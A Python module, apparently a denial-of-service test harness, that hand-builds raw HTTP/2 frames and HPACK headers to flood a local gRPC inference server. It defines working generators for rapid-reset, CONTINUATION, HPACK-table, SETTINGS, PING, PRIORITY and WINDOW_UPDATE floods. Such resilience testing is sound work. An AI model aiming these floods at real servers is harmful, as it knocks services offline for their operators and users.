"""A raw HTTP/2 client: frames, headers without compression, and connections that flood. HTTP/2 libraries would not
send what attackers send."""

import socket
import ssl
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4

LIVE = "/inference.GRPCInferenceService/ServerLive"
EMPTY_MESSAGE = b"\0" * 5


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def integer(value, bits, first=0):
    """An HPACK integer with this many bits in its first byte (RFC 7541, 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    out = bytearray((first | most,))
    value -= most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes((value,))


def literal(name, value, first=0x00):
    """A header field with its name; first=0x40 adds it to the table."""
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return bytes((first,)) + integer(len(name), 7) + name + integer(len(value), 7) + value


def request_headers(path=LIVE, more=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
              ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(literal(name, value) for name, value in fields)


def connect(port, source="127.0.0.1", certificate=None, timeout=5):
    connection = socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if certificate:
        context = ssl.create_default_context(cafile=certificate)
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection)
    return connection


def begin(connection, acknowledge, settings=b""):
    """Sends the preface and settings; with `acknowledge` waits for the server's settings and acknowledges them."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    if not acknowledge:
        return
    got = b""
    while len(got) < 9:
        piece = connection.recv(4096)
        if not piece:
            raise ConnectionResetError("closed before its settings")
        got += piece
    connection.sendall(frame(SETTINGS, ACK, 0))


def call(stream, headers, message=EMPTY_MESSAGE):
    return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message)


def streams(make, count=200):
    """Endless chunks of `count` streams each, made by make(stream)."""
    stream = 1
    while stream < 1 << 31:
        yield b"".join(make(stream + 2 * i) for i in range(count))
        stream += 2 * count


def repeat(piece, first=b""):
    yield first + piece
    while True:
        yield piece


def floods():
    """Maps names to generators of the chunks that a connection sends."""
    headers = request_headers()
    table_entry = literal("x", b"v" * 4000, first=0x40)
    table_block = table_entry + headers + b"\xbe" * 10000  # 62, the newest table entry, repeated
    header_junk = literal("x", b"v" * 1000) * 15
    some_call = frame(HEADERS, END_HEADERS, 1, headers)
    return {
        "rapid_reset": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS, stream, headers)
                                       + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))),
        "made_reset": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS, stream, headers)
                                      + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))),
        "calls": lambda: streams(lambda stream: call(stream, headers)),
        "open_calls": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS, stream, headers)),
        "continuation": lambda: repeat(frame(CONTINUATION, 0, 1, header_junk) * 4,
                                       frame(HEADERS, 0, 1, headers)),
        "empty_continuation": lambda: repeat(frame(CONTINUATION, 0, 1) * 2000, frame(HEADERS, 0, 1, headers)),
        "big_headers": lambda: streams(lambda stream: frame(HEADERS, 0, stream, headers)
                                       + frame(CONTINUATION, 0, stream, header_junk) * 8
                                       + frame(CONTINUATION, END_HEADERS | END_STREAM, stream, header_junk), 4),
        "hpack_table": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, table_block), 20),
        "settings": lambda: repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500),
        "pings": lambda: repeat(frame(PING, 0, 0, b"12345678") * 500),
        "empty_data": lambda: repeat(frame(DATA, 0, 1) * 1000, some_call),
        "priorities": lambda: repeat(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)) * 500),
        "window_updates": lambda: repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500),
    }
